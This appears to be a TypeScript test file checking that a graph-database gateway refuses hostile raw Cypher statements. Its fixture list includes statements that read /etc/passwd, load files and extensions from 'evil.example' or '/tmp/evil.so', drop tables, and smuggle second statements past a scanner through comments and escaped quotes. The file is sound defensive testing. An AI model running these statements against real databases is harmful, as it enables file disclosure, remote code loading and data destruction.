import { afterAll, beforeAll, describe, expect, test } from "bun:test";
import { ClientPool, graphState } from "./support/clients.ts";
import { startGatewayProcess, tempDir, type GatewayProcess } from "./support/gateway-process.ts";
import { health as healthOf, waitForReplica } from "./support/health.ts";
import { RawSocket, makeEvent } from "./support/raw-socket.ts";

let gw: GatewayProcess;
beforeAll(async () => {
  gw = await startGatewayProcess({ args: ["--allow-raw-dml"] });
});
afterAll(async () => {
  await gw.stop();
});

const health = () => healthOf(gw.httpUrl);

/** Statements that must never be sequenced; each names what the gate must object to. */
const HOSTILE: readonly string[] = [
  // files, network, native code
  "LOAD FROM '/etc/passwd' RETURN *",
  "lOaD fRoM 'http://evil.example/x.csv' (header = true) RETURN *",
  "LOAD WITH HEADERS (a STRING) FROM '/tmp/x.csv' RETURN *",
  "LOAD EXTENSION '/tmp/evil.so'",
  "INSTALL httpfs",
  "FORCE INSTALL json FROM 'http://evil.example/'",
  "COPY User FROM '/tmp/users.csv'",
  "COPY (MATCH (u:User) RETURN u.*) TO '/tmp/out.csv'",
  "ATTACH '/tmp/other.kuzu' AS other (dbtype kuzu)",
  "DETACH other",
  "USE other",
  "IMPORT DATABASE '/tmp/dump'",
  "EXPORT DATABASE '/tmp/dump'",
  "CALL show_tables() RETURN *",
  "MATCH (u:User) CALL show_tables() RETURN *",
  // DDL and transactions
  "CREATE NODE TABLE Evil(id STRING, PRIMARY KEY(id))",
  "DROP TABLE User",
  "ALTER TABLE User ADD admin BOOLEAN",
  "CREATE MACRO evil(x) AS x",
  "CREATE SEQUENCE s",
  "BEGIN TRANSACTION",
  "COMMIT",
  "ROLLBACK",
  "CHECKPOINT",
  "EXPLAIN MATCH (u:User) RETURN u",
  "PROFILE MATCH (u:User) DELETE u",
  // more than one statement, however it is dressed up
  "CREATE (:User {id: 'm1', name: 'a'}); CREATE (:User {id: 'm2', name: 'b'})",
  "MATCH (u:User) SET u.name = 'x';DROP TABLE User",
  "CREATE (:User {id: 'm3', name: 'a'}) ;; ",
  // keywords smuggled past a naive scanner
  "MATCH (u:User) // harmless comment\nLOAD FROM '/etc/passwd' RETURN *",
  "CREATE (:User {id: 'c1', name: 'x'}) /* ; */ ; DROP TABLE User",
  String.raw`CREATE (:User {id: 'c2', name: 'a\\'}) LOAD FROM '/etc/passwd' RETURN * //'})`,
  "CREATE (:User {id: 'c3', name: \"a\\\"\"}) RETURN 1; ATTACH 'x' AS y (dbtype kuzu) //\"",
  "/* CREATE (:User {id: 'ok'}) */ INSTALL httpfs",
  "MATCH (u:User) RETURN u UNION ALL CALL show_tables() RETURN *",
  // replicas would disagree
  "CREATE (:User {id: gen_random_uuid(), name: 'r'})",
  "MATCH (u:User) SET u.name = CAST(rand() AS STRING)",
  "MATCH (u:User) SET u.email = CAST(current_timestamp() AS STRING)",
  // not Cypher at all
  "",
  "   ",
  "`LOAD` FROM 'x'",
  "\u0000DROP TABLE User",
];

describe("raw DML through a gateway started with --allow-raw-dml", () => {
  test("every hostile statement is refused (RAW_DML_FORBIDDEN or INVALID_PARAMS) and nothing is stored", async () => {
    await using s = (await RawSocket.hello(gw.url, "attacker")).socket;
    const before = await health();
    const refusals: Record<string, unknown>[] = [];
    for (const [i, cypher] of HOSTILE.entries()) {
      // Both spellings: the `dml` shorthand, and an event of the reserved template.
      if (cypher.trim() !== "") {
        s.send({ type: "dml", id: `dml-${i}`, clientId: "attacker", cypher, timestamp: Date.now() });
        refusals.push(await s.nextOfType("reject"));
      }
      s.send({ type: "event", event: { ...makeEvent("RAW_DML", { cypher }, "attacker"), id: `evt-${i}` } });
      refusals.push(await s.nextOfType("reject"));
    }
    for (const r of refusals) {
      expect(r["code"] === "RAW_DML_FORBIDDEN" || (r["code"] === "INVALID_PARAMS" && /cypher/.test(String(r["message"])))).toBe(true);
      expect(r["retryable"]).toBe(false);
    }
    expect(refusals.filter((r) => r["code"] === "RAW_DML_FORBIDDEN").length).toBeGreaterThan(HOSTILE.length * 2 - 6);
    expect(await health()).toMatchObject({ headSeq: before.headSeq });
    // Bad shapes of the reserved template: no params, extra params, a non-string.
    for (const params of [{}, { cypher: "RETURN 1", as: "admin" }, { cypher: 1 }]) {
      const ev = makeEvent("RAW_DML", params, "attacker");
      s.send({ type: "event", event: ev });
      expect(await s.nextOfType("reject")).toMatchObject({ id: ev["id"], code: "INVALID_PARAMS" });
    }
    expect((await health()).headSeq).toBe(before.headSeq);
  });

  test("an allowed statement is sequenced like any event and applied identically on every replica", async () => {
    await using pool = new ClientPool();
    const a = await pool.connect(gw.url);
    const b = await pool.connect(gw.url);
    const failures: { seq: number; ok: boolean; error?: string }[] = [];
    b.on("event", (e) => e.template === "RAW_DML" && failures.push({ seq: e.seq, ok: e.ok, ...(e.error === undefined ? {} : { error: e.error }) }));
    await a.executeTemplate("CREATE_USER", { id: "rd1", name: "Ann" });
    const first = await a.sendDML("MATCH (u:User {id: 'rd1'}) SET u.name = 'Ann (raw)', u.email = 'ann@example.com'");
    await b.executeTemplate("CREATE_USER", { id: "rd2", name: "Bob" });
    await a.sendDML("MATCH (a:User {id: 'rd1'}), (b:User {id: 'rd2'}) MERGE (a)-[:FOLLOWS]->(b)");
    // Passes the gate but Kuzu 0.11 has no REMOVE: sequenced, then fails the same way everywhere.
    const remove = await b.sendDML("MATCH (u:User {id: 'rd2'}) REMOVE u.email");
    const last = await a.sendDML("UNWIND ['rd3', 'rd4'] AS id MERGE (u:User {id: id}) SET u.name = upper(id)");
    expect(first.seq).toBeGreaterThan(0);
    expect(last.seq).toBe(remove.seq + 1);
    await a.waitForSeq(last.seq);
    await b.waitForSeq(last.seq);
    const late = await pool.connect(gw.url); // a third replica built from catch-up alone
    await late.waitForSeq(last.seq);
    const state = await graphState(a);
    expect(await graphState(b)).toEqual(state);
    expect(await graphState(late)).toEqual(state);
    expect(await a.query("MATCH (u:User) WHERE u.id STARTS WITH 'rd' RETURN u.id AS id, u.name AS name, u.email AS email ORDER BY id")).toEqual([
      { id: "rd1", name: "Ann (raw)", email: "ann@example.com" },
      { id: "rd2", name: "Bob", email: null },
      { id: "rd3", name: "RD3", email: null },
      { id: "rd4", name: "RD4", email: null },
    ]);
    expect(await a.query("MATCH (x:User {id: 'rd1'})-[:FOLLOWS]->(y:User) RETURN y.id AS y")).toEqual([{ y: "rd2" }]);
    expect(failures.map((f) => f.ok)).toEqual([true, true, false, true]);
    expect(failures[2]!.error).toMatch(/REMOVE|remove|Parser/i);
    // The server's replica went the same way, and the stats count raw DML under RAW_DML.
    await waitForReplica(gw, last.seq);
    const stats = (await (await fetch(`${gw.httpUrl}/stats`)).json()) as { events: { byTemplate: Record<string, number> } };
    expect(stats.events.byTemplate["RAW_DML"]).toBe(4);
    expect(a.getDetailedStatsByTemplate()["RAW_DML"]).toMatchObject({ sent: 3, applied: 3, failed: 1 });
  });

  test("a sendDML made while offline waits in the outbox and is sent once connected", async () => {
    using dir = tempDir();
    await using pool = new ClientPool();
    let own = await startGatewayProcess({ args: ["--allow-raw-dml"], dataDir: dir.path });
    try {
      const c = await pool.connect(own.url);
      const online = await c.executeTemplate("CREATE_USER", { id: "online", name: "first" });
      const closed = new Promise<void>((resolve) => c.on("disconnected", () => resolve()));
      await own.stop(); // nobody to send to
      await closed;
      const pending = c.sendDML("MERGE (u:User {id: 'offline'}) SET u.name = 'queued'");
      expect(c.pendingCount).toBe(1);
      own = await startGatewayProcess({ args: ["--allow-raw-dml"], dataDir: dir.path, port: own.port });
      const { seq } = await pending;
      expect(seq).toBe(online.seq + 1); // the next seq: stored once, after the restart
      await c.waitForSeq(seq);
      expect(await c.query("MATCH (u:User) RETURN u.id AS id, u.name AS n ORDER BY id")).toEqual([
        { id: "offline", n: "queued" },
        { id: "online", n: "first" },
      ]);
    } finally {
      await own.stop();
    }
  });
});

describe("raw DML on a default gateway", () => {
  test("is refused with RAW_DML_DISABLED in both spellings, before any other check", async () => {
    await using plain = await startGatewayProcess();
    await using s = (await RawSocket.hello(plain.url, "someone")).socket;
    s.send({ type: "dml", id: "d1", clientId: "someone", cypher: "CREATE (:User {id: 'x', name: 'y'})", timestamp: Date.now() });
    expect(await s.nextOfType("reject")).toMatchObject({ id: "d1", code: "RAW_DML_DISABLED" });
    const ev = makeEvent("RAW_DML", { cypher: "LOAD FROM '/etc/passwd' RETURN *" }, "someone");
    s.send({ type: "event", event: ev });
    expect(await s.nextOfType("reject")).toMatchObject({ id: ev["id"], code: "RAW_DML_DISABLED" });
  });
});
